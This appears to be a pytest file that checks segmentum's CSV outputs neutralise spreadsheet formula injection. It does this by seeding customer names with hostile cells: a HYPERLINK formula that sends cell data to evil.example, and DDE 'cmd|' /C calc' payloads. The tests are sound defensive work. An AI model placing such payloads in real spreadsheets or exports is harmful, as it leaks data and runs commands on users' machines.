"""CSV formula injection: every CSV segmentum writes (members -o, --format csv, the API's and the dashboard's
CSV, the export sink) neutralises text a spreadsheet would run as a formula; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import httpx
import pandas as pd
import pytest
from actions_helpers import make_workspace, write_run

from segmentum.actions import deliver, process_run
from segmentum.actions.sinks.export import ExportOptions, write_export
from segmentum.cli.common import OutputFormat, emit
from segmentum.csvsafe import safe_cell, safe_frame
from segmentum.views.members import members
from segmentum.workspace import Workspace

HOSTILE = {
    "c1": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "c2": "+cmd|' /C calc'!A0",
    "c3": "@SUM(1+1)*cmd|' /C calc'!A0",
    "c4": "-2+3+cmd|' /C calc'!A0",
    "c5": "\t=1+1",
    "c6": "\r=1+1",
}
EXPORT = """\
traits:
  revenue: {sum: orders.amount}
segmentations:
  tier:
    segments:
      - {name: vip, where: "revenue >= 5000"}
      - {name: regular, where: "revenue >= 500"}
    else: low
triggers:
  lists:
    on: enter
    segment: tier.low
    on_first_run: fire
    do:
      - export: {path: exports/low.csv}
"""


def test_safe_cell_prefixes_formula_text_only() -> None:
    for text in HOSTILE.values():
        assert safe_cell(text) == ("'" + text).replace("\r", "\n")
    assert safe_cell("Ann") == "Ann" and safe_cell("") == ""
    assert safe_cell(-5) == -5 and safe_cell(-0.5) == -0.5 and safe_cell(None) is None
    frame = safe_frame(pd.DataFrame({"name": ["=1+1", "Bob"], "amount": [-5.5, 3.0], "n": [-1, 2]}))
    assert list(frame["name"]) == ["'=1+1", "Bob"]
    assert list(frame["amount"]) == [-5.5, 3.0] and list(frame["n"]) == [-1, 2]
    import pyarrow as pa  # text read through Arrow (members' rows) is text too

    arrow = pd.Series(["@x", "y"], dtype=pd.ArrowDtype(pa.large_string()))
    assert list(safe_frame(pd.DataFrame({"a": arrow}))["a"]) == ["'@x", "y"]


def _workspace(root: Path, definitions: str | None = None) -> Workspace:
    ws = make_workspace(root, definitions=definitions or EXPORT)
    con = ws.store.cursor()
    for cid, name in HOSTILE.items():
        con.execute("UPDATE main.customers SET name = ? WHERE customer_id = ?", [name, cid])
    # a customer whose id itself is hostile, and a negative trait value that must stay a number
    con.execute("INSERT INTO main.customers VALUES ('=1+2', '-3', NULL, NULL, NULL)")
    state = {cid: {"tier": "low", "revenue": 10} for cid in [*HOSTILE, "=1+2"]}
    state["c1"]["revenue"] = -5
    write_run(ws, 1, state, hashes={"tier": ws.definitions().hashes["tier"]})
    return ws


def _rows(text: str) -> dict[str, dict[str, str]]:
    assert text.startswith("\ufeff")  # the UTF-8 byte order mark Excel needs to read Cyrillic
    return {r["customer_id"]: r for r in csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline=""))}


def _check(rows: dict[str, dict[str, str]], *, names: bool = True) -> None:
    assert "'=1+2" in rows and "=1+2" not in rows  # the id, neutralised
    if names:
        for cid, text in HOSTILE.items():
            assert rows[cid]["name"] == ("'" + text).replace("\r", "\n")  # a lone CR would end the row
        assert rows["'=1+2"]["name"] == "'-3"  # text that looks like a number is still text
    if "revenue" in rows["c1"]:
        assert float(rows["c1"]["revenue"]) == -5  # a negative number stays a number


def test_members_output_and_format_csv(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    ws = _workspace(tmp_path / "ws")
    page = members(ws, "tier.low", traits=True)
    target = write_export(
        page.rows, tmp_path / "low.csv", ExportOptions()
    )  # what `segmentum members -o low.csv` writes
    _check(_rows(target.read_bytes().decode()))
    emit(page.rows, OutputFormat.csv)  # what `--format csv` prints (to a terminal or a pipe: no BOM)
    _check(_rows("\ufeff" + capsys.readouterr().out))
    ws.close()


def test_export_sink_csv(tmp_path: Path) -> None:
    ws = _workspace(tmp_path / "ws")
    assert process_run(ws, 1).enqueued == 1  # one export of the refreshed segment
    assert deliver(ws).delivered >= 1
    _check(_rows((ws.root / "exports" / "low.csv").read_bytes().decode()))
    ws.close()


@pytest.mark.slow
def test_api_and_dashboard_csv(tmp_path: Path) -> None:
    from segmentum.api.main import create_app
    from segmentum.api.server import web_routers
    from segmentum.service import users
    from segmentum.service.keys import KeyStore
    from servers import start_app

    ws = _workspace(tmp_path / "ws")
    users.add_user(ws.store, "anna", "correct horse battery")
    key = KeyStore(ws.store).create("read", "csv test")[0]
    server, thread, url = start_app(create_app(ws, extra_routers=web_routers(), realtime=False))
    try:
        with httpx.Client(base_url=url, timeout=60, headers={"Authorization": f"Bearer {key}"}) as api:
            response = api.get("/v1/segments/tier.low/members", params={"format": "csv"})
            assert response.status_code == 200, response.text
            _check(_rows(response.text), names=False)  # the API's CSV has ids and traits
        with httpx.Client(base_url=url, timeout=60) as web:
            web.post("/login", data={"user": "anna", "password": "correct horse battery"})
            response = web.get("/segments/tier.low/members.csv")
            assert response.status_code == 200, response.text
            _check(_rows(response.text))
    finally:
        server.should_exit = True
        thread.join(15)
        ws.close()
